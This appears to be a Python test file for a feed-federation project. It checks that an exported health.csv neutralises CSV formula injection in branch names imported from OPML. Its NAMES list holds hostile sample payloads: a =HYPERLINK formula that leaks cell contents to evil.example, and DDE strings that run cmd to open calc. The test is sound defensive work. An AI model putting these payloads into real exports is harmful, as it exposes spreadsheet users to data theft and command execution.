"""health.csv opens in a spreadsheet: no cell may start a formula (OWASP, CSV injection).

Branch names come from an OPML import (a file someone sent), shaped as the tester's: a
``=HYPERLINK(...)`` that leaks the sheet and a DDE ``+1+cmd|...`` payload, plus ``@SUM``,
``-2+3`` and a name starting with a tab.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from feedserver import FeedServer
from test_pipeline import Item, atom, federate, server
from tongxin.federation.opml import import_opml

__all__ = ["server"]

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_no_cell_of_health_csv_starts_a_formula(server: FeedServer, tmp_path: Path) -> None:
    server.route("/a.xml", body=atom(server.url("/a/"), "A", [Item("a", "一条", 1)]))
    outlines = "".join(
        f'<outline type="rss" text="{_attr(name)}" xmlUrl="{server.url(f"/{n}.xml")}"/>'
        for n, name in enumerate(NAMES)
    )
    opml = tmp_path / "sub.opml"
    opml.write_text(
        '<?xml version="1.0" encoding="UTF-8"?><opml version="2.0"><head><title>x</title>'
        f"</head><body>{outlines}"
        f'<outline type="rss" text="正常支部" xmlUrl="{server.url("/a.xml")}"/></body></opml>',
        encoding="utf-8",
    )
    registry = tmp_path / "registry.yaml"
    registry.write_text(
        import_opml(opml, url="https://p.example/") + "allow_networks: [127.0.0.1]\n", "utf-8"
    )
    out = tmp_path / "portal"
    federate(registry, out)
    text = (out / "health.csv").read_text("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    names = {row[1] for row in rows[1:]}
    for name in NAMES:
        assert "'" + name.strip() in names  # kept whole, readable, quoted (import strips)
    assert "正常支部" in names
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # numbers stay numbers, negative ones too (a spreadsheet must still sum them)
    assert all(c.lstrip("-").isdigit() for c in cells if c.startswith("-")), cells


def _attr(value: str) -> str:
    return (
        value.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        .replace("\t", "&#9;")
    )  # fmt: skip


def test_a_tab_or_carriage_return_start_is_quoted_too() -> None:
    from tongxin.federation.health_table import health_csv
    from tongxin.federation.model import BranchHealth, Registry

    rows = [
        BranchHealth("t", "\t=1+1", "ok", 200, None, None, 0, None, region="\r=2+2"),
        BranchHealth("m", "-东区支部", "ok", 200, None, None, 0, None, region="=东区"),
    ]
    text = health_csv(rows, Registry("P", "https://p.example/", ()), datetime.now(UTC))
    body = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:]
    cells = {(row[1], row[2]) for row in body}
    assert cells == {("'\t=1+1", "'\r=2+2"), ("'-东区支部", "'=东区")}
